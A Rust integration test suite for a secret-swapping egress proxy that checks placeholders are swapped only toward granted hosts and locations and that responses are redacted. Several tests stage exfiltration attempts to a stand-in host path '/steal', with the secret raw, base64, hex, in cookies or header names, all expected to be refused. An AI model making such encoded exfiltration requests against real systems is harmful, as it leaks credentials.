//! Swap where granted, refuse everything else, redact every response: end to end through a
//! real proxy to a recording TLS upstream, with curl as the sandbox's client. Every refusal
//! also checks that the upstream received nothing.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use sluice_integration_tests::client::CurlOutput;
use sluice_integration_tests::{Curl, RecordingUpstream, TestPki, TestProxy};

const TOKEN: &str = "tok/REAL+value=0123456789&abc";
const TOKEN_PERCENT: &str = "tok%2FREAL%2Bvalue%3D0123456789%26abc";
const TOKEN_JSON_SLASH: &str = "tok\\/REAL+value=0123456789&abc";
const QUERY_KEY: &str = "qk-REAL-value-9876543210";
const BODY_KEY: &str = "bk-REAL-value-5555555555";

const POLICY: &str = r#"
version: 1
secrets:
  api_token:
    value: "tok/REAL+value=0123456789&abc"
    hosts: ["api.test"]
    sinks: [egress]
    in: [header]
    header: [authorization]
  query_key:
    value: "qk-REAL-value-9876543210"
    hosts: ["api.test"]
    sinks: [egress]
    in: [query]
  body_key:
    value: "bk-REAL-value-5555555555"
    hosts: ["api.test"]
    sinks: [egress]
    in: [body]
egress:
  allow: ["other.test"]
  verbatim: ["model.test"]
  allow_ips: ["127.0.0.1/32"]
"#;

const HOSTS: &[&str] = &["api.test", "other.test", "model.test"];

struct World {
    pki: TestPki,
    upstream: RecordingUpstream,
    proxy: TestProxy,
}

impl World {
    async fn new() -> Self {
        let pki = TestPki::new();
        let upstream = RecordingUpstream::start(&pki, HOSTS, &[b"h2", b"http/1.1"]).await;
        let proxy = TestProxy::start(POLICY, &pki, HOSTS).await;
        Self {
            pki,
            upstream,
            proxy,
        }
    }

    fn placeholder(&self, secret: &str) -> String {
        self.proxy
            .proxy
            .placeholders()
            .get(secret)
            .expect("placeholder")
            .to_owned()
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.upstream.port())
    }

    async fn curl(&self, args: &[&str], url: String) -> CurlOutput {
        let proxy_url = self.proxy.url();
        let ca = self.proxy.ca_path();
        let mut all: Vec<String> = vec!["-i".into()];
        all.extend(args.iter().map(|s| s.to_string()));
        tokio::task::spawn_blocking(move || Curl::new(&proxy_url, &ca).args(all).get(&url))
            .await
            .expect("curl task")
    }

    /// curl with a request body read from a file (no shell, exact bytes).
    async fn post(&self, args: &[&str], body: &[u8], url: String) -> CurlOutput {
        let path = self.pki.dir().join(format!("body-{}", rand_suffix()));
        std::fs::write(&path, body).expect("write body");
        let data = format!("@{}", path.display());
        let mut all: Vec<&str> = args.to_vec();
        all.extend(["--data-binary", &data]);
        self.curl(&all, url).await
    }
}

fn rand_suffix() -> u128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or_default()
}

/// Every form of every value a leak could take, for "never appears" checks.
fn leaks() -> Vec<String> {
    let mut forms = Vec::new();
    for value in [TOKEN, QUERY_KEY, BODY_KEY] {
        forms.push(value.to_owned());
        forms.push(STANDARD.encode(value));
        forms.push(URL_SAFE_NO_PAD.encode(value));
        forms.push(hex::encode(value));
    }
    forms.push(TOKEN_PERCENT.to_owned());
    forms.push(TOKEN_JSON_SLASH.to_owned());
    forms
}

fn assert_no_leak(what: &str, text: &str) {
    for leak in leaks() {
        assert!(!text.contains(&leak), "{what} leaks a secret form: {text}");
    }
}

fn is_event(line: &str, kind: &str) -> bool {
    serde_json::from_str::<serde_json::Value>(line).is_ok_and(|v| v["event"] == kind)
}

#[tokio::test]
async fn a_placeholder_in_a_granted_header_is_swapped_and_only_there() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let auth = format!("Authorization: Bearer {ph}");
    let out = world
        .curl(&["-H", &auth], world.url("api.test", "/v1"))
        .await;
    assert!(out.body.starts_with("HTTP/"), "{out:?}");
    assert_eq!(out.status, 200, "{out:?}");
    let records = world.upstream.records();
    assert_eq!(records.len(), 1);
    assert_eq!(
        records[0].headers["authorization"],
        format!("Bearer {TOKEN}")
    );
    // Over HTTP/1.1 too, and a GET stays a GET without a body: no length, no chunking.
    let out = world
        .curl(&["--http1.1", "-H", &auth], world.url("api.test", "/v1"))
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let records = world.upstream.records();
    assert_eq!(records.len(), 2);
    let h1 = &records[1];
    assert_eq!(h1.version, http::Version::HTTP_11);
    assert_eq!(h1.headers["authorization"], format!("Bearer {TOKEN}"));
    assert!(
        !h1.headers.contains_key("transfer-encoding") && !h1.headers.contains_key("content-length"),
        "a bodiless GET grew framing: {:?}",
        h1.headers
    );

    // The same placeholder in a header the secret does not grant: refused, nothing sent.
    let other_header = format!("X-Api-Key: {ph}");
    let refused = world
        .curl(&["-H", &other_header], world.url("api.test", "/v1"))
        .await;
    assert_eq!(refused.status, 403, "{refused:?}");
    assert!(
        refused
            .body
            .contains("sluice-error: placeholder-not-granted")
    );
    assert!(refused.body.contains("api_token"), "{}", refused.body);
    assert!(
        refused.body.contains("header:x-api-key"),
        "{}",
        refused.body
    );
    assert_eq!(
        world.upstream.records().len(),
        2,
        "the refused request reached the upstream"
    );
    assert_no_leak("refusal body", &refused.body);

    let audit = world.proxy.stop().await;
    assert!(audit.iter().any(|l| is_event(l, "swap")
        && l.contains("api_token")
        && l.contains("header:authorization")));
    assert!(
        audit
            .iter()
            .any(|l| is_event(l, "refuse") && l.contains("header:x-api-key"))
    );
    assert_no_leak("audit log", &audit.join("\n"));
}

#[tokio::test]
async fn a_placeholder_inside_basic_credentials_is_swapped() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let user = format!("git:{ph}");
    let out = world
        .curl(&["-u", &user], world.url("api.test", "/repo"))
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let records = world.upstream.records();
    let expected = format!("Basic {}", STANDARD.encode(format!("git:{TOKEN}")));
    assert_eq!(records[0].headers["authorization"], expected.as_str());
    world.proxy.stop().await;
}

#[tokio::test]
async fn granted_query_and_body_placeholders_are_swapped() {
    let world = World::new().await;
    let qk = world.placeholder("query_key");
    let bk = world.placeholder("body_key");
    let out = world
        .curl(&[], world.url("api.test", &format!("/q?key={qk}&page=2")))
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    // A form body with Content-Length: buffered, swapped, length recomputed.
    let form = format!("name=x&key={bk}");
    let out = world
        .post(
            &["-H", "Content-Type: application/x-www-form-urlencoded"],
            form.as_bytes(),
            world.url("api.test", "/form"),
        )
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    // A chunked body: swapped as it streams.
    let json = format!("{{\"key\":\"{bk}\",\"pad\":\"{}\"}}", "z".repeat(50_000));
    let out = world
        .post(
            &[
                "-H",
                "Transfer-Encoding: chunked",
                "-H",
                "Content-Type: application/json",
            ],
            json.as_bytes(),
            world.url("api.test", "/chunked"),
        )
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let records = world.upstream.records();
    assert_eq!(records.len(), 3);
    assert_eq!(
        records[0].uri.query(),
        Some(format!("key={QUERY_KEY}&page=2").as_str())
    );
    let form_sent = format!("name=x&key={BODY_KEY}");
    assert_eq!(records[1].body, form_sent.as_bytes());
    assert_eq!(
        records[1].headers["content-length"],
        form_sent.len().to_string().as_str()
    );
    let json_sent = json.replace(&bk, BODY_KEY);
    assert_eq!(records[2].body, json_sent.as_bytes());
    // A placeholder granted for the query is refused in the body, and vice versa.
    let wrong = world
        .curl(&[], world.url("api.test", &format!("/q?key={bk}")))
        .await;
    assert_eq!(wrong.status, 403, "{wrong:?}");
    assert!(
        wrong.body.contains("body_key") && wrong.body.contains("query"),
        "{}",
        wrong.body
    );
    assert_eq!(world.upstream.records().len(), 3);
    let audit = world.proxy.stop().await;
    assert_no_leak("audit log", &audit.join("\n"));
}

#[tokio::test]
async fn placeholders_and_values_toward_ungranted_hosts_are_refused() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let auth = format!("Authorization: Bearer {ph}");
    let out = world
        .curl(&["-H", &auth], world.url("other.test", "/steal"))
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert!(
        out.body.contains("api_token") && out.body.contains("other.test"),
        "{}",
        out.body
    );
    assert!(
        out.body.contains("secrets.api_token.hosts"),
        "says which grant is missing: {}",
        out.body
    );
    // The real value itself, raw, in a header: exfiltration.
    let raw = format!("X-Data: {TOKEN}");
    let out = world
        .curl(&["-H", &raw], world.url("other.test", "/steal"))
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert!(
        out.body.contains("sluice-error: secret-value-refused"),
        "{}",
        out.body
    );
    // Base64 of the value in a streamed body.
    let b64 = format!("blob={}", STANDARD.encode(format!("xy{BODY_KEY}")));
    let out = world
        .post(
            &["-H", "Transfer-Encoding: chunked"],
            b64.as_bytes(),
            world.url("other.test", "/steal"),
        )
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    // Hex in the query.
    let out = world
        .curl(
            &[],
            world.url(
                "other.test",
                &format!("/steal?d={}", hex::encode(QUERY_KEY)),
            ),
        )
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    // Plain HTTP is never swapped: a placeholder there is refused before any dial.
    let plain = world
        .curl(&["-H", &auth], "http://other.test:9/plain".to_owned())
        .await;
    assert_eq!(plain.status, 403, "{plain:?}");
    assert!(plain.body.contains("plain http"), "{}", plain.body);
    let received: Vec<_> = world
        .upstream
        .records()
        .into_iter()
        .filter(|r| r.uri.path() == "/steal")
        .collect();
    assert!(
        received
            .iter()
            .all(|r| r.body.is_empty() || !String::from_utf8_lossy(&r.body).contains("blob")),
        "a refused body reached the upstream whole"
    );
    assert!(received.iter().all(|r| !r.headers.contains_key("x-data")));
    let audit = world.proxy.stop().await;
    assert!(audit.iter().filter(|l| is_event(l, "refuse")).count() >= 4);
    assert_no_leak("audit log", &audit.join("\n"));
}

#[tokio::test]
async fn verbatim_hosts_get_placeholders_unchanged() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let body = format!("{{\"messages\":[\"my token is {ph}\"]}}");
    let out = world
        .post(
            &["-H", "Content-Type: application/json"],
            body.as_bytes(),
            world.url("model.test", "/v1/messages"),
        )
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    assert_eq!(world.upstream.records()[0].body, body.as_bytes());
    let audit = world.proxy.stop().await;
    assert!(
        audit
            .iter()
            .any(|l| is_event(l, "verbatim") && l.contains("api_token"))
    );
}

#[tokio::test]
async fn a_value_quoted_toward_a_verbatim_host_reaches_it_as_its_placeholder() {
    // A model API is a boundary: a conversation that once quoted a value keeps working,
    // and the model never reads the value.
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let body = format!("{{\"messages\":[\"earlier the tool printed {TOKEN_JSON_SLASH}\"]}}");
    let out = world
        .post(
            &[
                "-H",
                "Content-Type: application/json",
                "-H",
                &format!("X-Quoted: {TOKEN}"),
            ],
            body.as_bytes(),
            world.url("model.test", "/v1/messages"),
        )
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let received = world.upstream.records();
    assert_eq!(received.len(), 1);
    let sent = String::from_utf8_lossy(&received[0].body).into_owned();
    assert_eq!(
        sent,
        format!("{{\"messages\":[\"earlier the tool printed {ph}\"]}}")
    );
    assert_eq!(received[0].headers["x-quoted"], ph.as_str());
    assert_no_leak(
        "what the model host received",
        &format!("{sent} {:?}", received[0].headers),
    );
    let audit = world.proxy.stop().await;
    let redactions: Vec<&String> = audit
        .iter()
        .filter(|l| is_event(l, "redact") && l.contains("api_token") && l.contains("model.test"))
        .collect();
    assert!(
        redactions
            .iter()
            .any(|l| l.contains("\"location\":\"body\""))
            && redactions
                .iter()
                .any(|l| l.contains("\"location\":\"header:x-quoted\"")),
        "{audit:#?}"
    );
    assert_no_leak("audit log", &audit.join("\n"));
}

#[tokio::test]
async fn values_echoed_back_in_any_encoding_arrive_as_placeholders() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let body = format!(
        "raw:{TOKEN} pct:{TOKEN_PERCENT} json:{TOKEN_JSON_SLASH} b64:{} b64u:{} b64x:{} b64xy:{} hex:{} HEX:{}",
        STANDARD.encode(TOKEN),
        URL_SAFE_NO_PAD.encode(TOKEN),
        STANDARD.encode(format!("x{TOKEN}")),
        STANDARD.encode(format!("xy{TOKEN}")),
        hex::encode(TOKEN),
        hex::encode_upper(TOKEN),
    );
    for path in [
        "/echo",
        "/echo/gzip",
        "/echo/br",
        "/echo/zstd",
        "/echo/deflate",
        "/echo/trickle",
    ] {
        let out = world
            .post(
                &["-H", "Content-Type: text/plain"],
                body.as_bytes(),
                world.url("api.test", path),
            )
            .await;
        assert_eq!(out.status, 200, "{path}: {out:?}");
        assert_no_leak(path, &out.body);
        assert!(
            !out.body
                .contains(&STANDARD.encode(format!("x{TOKEN}"))[4..30]),
            "{path}: shifted base64 survived"
        );
        assert!(out.body.matches(&ph).count() >= 9, "{path}: {}", out.body);
        assert!(
            !out.body.to_ascii_lowercase().contains("content-encoding"),
            "{path}: decoded bodies lose their Content-Encoding"
        );
        if path == "/echo" {
            // A small body of known length keeps an exact length, the redacted one's.
            // (curl -i shows the CONNECT answer first: the body follows the last blank line.)
            let (head, shown) = out.body.rsplit_once("\r\n\r\n").expect("head and body");
            let length = format!("content-length: {}", shown.len());
            assert!(head.to_ascii_lowercase().contains(&length), "{head}");
            assert!(
                !head.to_ascii_lowercase().contains("transfer-encoding"),
                "{head}"
            );
        }
    }
    let out = world
        .post(&[], TOKEN.as_bytes(), world.url("api.test", "/echo/header"))
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    assert_no_leak("response headers", &out.body);
    let head = out.body.to_ascii_lowercase();
    for header in ["x-echo:", "location:", "set-cookie:"] {
        let line = head.lines().find(|l| l.starts_with(header)).expect(header);
        assert!(line.contains(&ph.to_ascii_lowercase()), "{line}");
    }
    let audit = world.proxy.stop().await;
    assert!(
        audit
            .iter()
            .any(|l| is_event(l, "redact") && l.contains("response-body"))
    );
    assert!(
        audit
            .iter()
            .any(|l| is_event(l, "redact") && l.contains("response-headers"))
    );
    assert_no_leak("audit log", &audit.join("\n"));
}

#[tokio::test]
async fn a_refused_request_never_reaches_the_upstream_over_a_raw_tunnel() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let authority = format!("other.test:{}", world.upstream.port());
    let mut tunnel = world
        .proxy
        .at()
        .open(&authority, "other.test", &[b"h2"])
        .await
        .expect("tunnel");
    let request = http::Request::get(format!("https://{authority}/x"))
        .header("authorization", format!("Bearer {ph}"))
        .body(http_body_util::Full::new(bytes::Bytes::new()))
        .unwrap();
    let response = tunnel.send(request).await.expect("response");
    assert_eq!(response.status(), 403);
    assert_eq!(
        world.upstream.connections(),
        0,
        "not even a connection was opened"
    );
    world.proxy.stop().await;
}

#[tokio::test]
async fn bodiless_responses_stay_correct_and_their_headers_are_redacted() {
    let world = World::new().await;
    let ph = world.placeholder("api_token");
    let head = world.curl(&["-I"], world.url("api.test", "/hello")).await;
    assert_eq!(head.status, 200, "{head:?}");
    for status in ["204", "304"] {
        let out = world
            .post(
                &[],
                TOKEN.as_bytes(),
                world.url("api.test", &format!("/status/{status}")),
            )
            .await;
        assert_eq!(out.status.to_string(), status, "{out:?}");
        assert_no_leak(status, &out.body);
        assert!(out.body.contains(&ph), "{}", out.body);
    }
    world.proxy.stop().await;
}

#[tokio::test]
async fn a_decompression_bomb_and_an_unknown_coding_get_502() {
    let pki = TestPki::new();
    let upstream = RecordingUpstream::start(&pki, HOSTS, &[b"http/1.1"]).await;
    let proxy = TestProxy::start_with(POLICY, &pki, HOSTS, |config| {
        config.limits.max_decoded_body = 1 << 20;
    })
    .await;
    let world = World {
        pki,
        upstream,
        proxy,
    };
    let bomb = world.curl(&[], world.url("api.test", "/bomb")).await;
    // The head is sent before the body decodes past the bound: the body is cut short,
    // which curl reports as a transfer error; never 8 MiB of zeros.
    assert!(
        bomb.body.len() < 2 << 20,
        "the bomb went through: {} bytes",
        bomb.body.len()
    );
    assert!(
        bomb.code != Some(0) || bomb.status == 502,
        "{:?}",
        bomb.code
    );
    let unknown = world
        .curl(&[], world.url("api.test", "/encoded/x-unknown"))
        .await;
    assert_eq!(unknown.status, 502, "{unknown:?}");
    assert!(
        unknown.body.contains("sluice-error: upstream-encoding"),
        "{}",
        unknown.body
    );
    assert!(
        !unknown.body.contains("opaque"),
        "an undecodable body was passed on"
    );
    world.proxy.stop().await;
}

#[tokio::test]
async fn a_compressed_request_body_is_decoded_swapped_and_re_encoded() {
    use std::io::Write;
    let world = World::new().await;
    let bk = world.placeholder("body_key");
    let plain = format!("{{\"key\":\"{bk}\"}}");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(plain.as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    let out = world
        .post(
            &[
                "-H",
                "Content-Encoding: gzip",
                "-H",
                "Content-Type: application/json",
            ],
            &gz,
            world.url("api.test", "/gz"),
        )
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let record = &world.upstream.records()[0];
    assert_eq!(record.headers["content-encoding"], "gzip");
    let mut decoded = String::new();
    std::io::Read::read_to_string(
        &mut flate2::read::GzDecoder::new(&record.body[..]),
        &mut decoded,
    )
    .unwrap();
    assert_eq!(decoded, format!("{{\"key\":\"{BODY_KEY}\"}}"));
    assert_eq!(
        record.headers["content-length"],
        record.body.len().to_string().as_str()
    );
    world.proxy.stop().await;
}

/// A body with request trailers, for the one test that needs them.
struct WithTrailers(Option<bytes::Bytes>, Option<http::HeaderMap>);

impl http_body::Body for WithTrailers {
    type Data = bytes::Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<bytes::Bytes>, Self::Error>>> {
        let frame = match self.0.take() {
            Some(data) => Some(http_body::Frame::data(data)),
            None => self.1.take().map(http_body::Frame::trailers),
        };
        std::task::Poll::Ready(frame.map(Ok))
    }
}

#[tokio::test]
async fn a_placeholder_in_request_trailers_is_never_swapped() {
    let world = World::new().await;
    let bk = world.placeholder("body_key");
    let authority = format!("api.test:{}", world.upstream.port());
    let tls = world
        .proxy
        .at()
        .tls_tunnel(&authority, "api.test", &[b"h2"])
        .await
        .expect("tunnel");
    let (mut send, conn) = hyper::client::conn::http2::handshake(
        hyper_util::rt::TokioExecutor::new(),
        hyper_util::rt::TokioIo::new(tls),
    )
    .await
    .expect("h2");
    tokio::spawn(conn);
    let mut trailers = http::HeaderMap::new();
    trailers.insert("x-sig", bk.parse().unwrap());
    let request = http::Request::post(format!("https://{authority}/trailers"))
        .body(WithTrailers(
            Some(bytes::Bytes::from_static(b"data")),
            Some(trailers),
        ))
        .unwrap();
    let response = send.send_request(request).await.expect("sluice answers");
    // body_key grants the body, not trailers: the request is stopped, never completed (the
    // recording upstream keeps an aborted body as empty).
    assert_eq!(
        response.status(),
        403,
        "a placeholder in a trailer went through"
    );
    let records = world.upstream.records();
    assert!(
        records
            .iter()
            .all(|r| r.uri.path() != "/trailers" || r.body.is_empty()),
        "the upstream received the request whole: {records:?}"
    );
    world.proxy.stop().await;
}

#[tokio::test]
async fn a_value_spelled_into_a_header_name_is_refused_in_any_letter_case() {
    let world = World::new().await;
    // HTTP stacks lowercase names: the value arrives as `x-bk-real-value-5555555555`, which
    // an exact scan would not see.
    let header = format!("X-{BODY_KEY}: 1");
    for protocol in ["--http1.1", "--http2"] {
        let out = world
            .curl(
                &[protocol, "-H", &header],
                world.url("other.test", "/steal"),
            )
            .await;
        assert_eq!(out.status, 403, "{protocol}: {out:?}");
        assert!(
            out.body.contains("sluice-error: secret-value-refused")
                && out.body.contains("body_key"),
            "{protocol}: {}",
            out.body
        );
        assert_no_leak(protocol, &out.body);
        assert!(
            !out.body
                .to_ascii_lowercase()
                .contains(&BODY_KEY.to_ascii_lowercase())
        );
    }
    assert!(
        world.upstream.records().is_empty(),
        "nothing reaches the upstream: {:?}",
        world.upstream.records()
    );
}

#[tokio::test]
async fn multipart_bodies_and_cookies_follow_the_same_grants() {
    let world = World::new().await;
    let bk = world.placeholder("body_key");
    let ph = world.placeholder("api_token");
    // A multipart form (curl -F, with a Content-Length): the part's placeholder is swapped
    // toward the host whose grant includes the body, and the length recomputed.
    let field = format!("key={bk}");
    let out = world
        .curl(
            &["-F", &field, "-F", "note=plain"],
            world.url("api.test", "/upload"),
        )
        .await;
    assert_eq!(out.status, 200, "{out:?}");
    let records = world.upstream.records();
    assert_eq!(records.len(), 1);
    let sent = String::from_utf8_lossy(&records[0].body).into_owned();
    assert!(
        records[0].headers["content-type"]
            .to_str()
            .is_ok_and(|t| t.starts_with("multipart/form-data")),
        "{:?}",
        records[0].headers
    );
    assert!(sent.contains(BODY_KEY) && !sent.contains(&bk), "{sent}");
    assert!(sent.contains("plain"), "{sent}");
    assert_eq!(
        records[0].headers["content-length"],
        records[0].body.len().to_string().as_str()
    );
    // The same multipart body toward a host without the grant: refused, nothing sent.
    let out = world
        .curl(&["-F", &field], world.url("other.test", "/upload"))
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert!(out.body.contains("body_key"), "{}", out.body);
    // A cookie is a header like any other: `api_token` is granted `authorization` only.
    let cookie = format!("Cookie: session={ph}");
    let out = world
        .curl(&["-H", &cookie], world.url("api.test", "/cookie"))
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert!(out.body.contains("header:cookie"), "{}", out.body);
    // The real value in a cookie toward an ungranted host: refused too.
    let cookie = format!("Cookie: session={TOKEN_PERCENT}");
    let out = world
        .curl(&["-H", &cookie], world.url("other.test", "/cookie"))
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert!(
        out.body.contains("sluice-error: secret-value-refused"),
        "{}",
        out.body
    );
    let records = world.upstream.records();
    assert_eq!(
        records.len(),
        1,
        "a refused request reached the upstream: {:?}",
        records
            .iter()
            .map(|r| (r.uri.to_string(), r.body.len()))
            .collect::<Vec<_>>()
    );
    assert_no_leak("refusals", &out.body);
    world.proxy.stop().await;
}
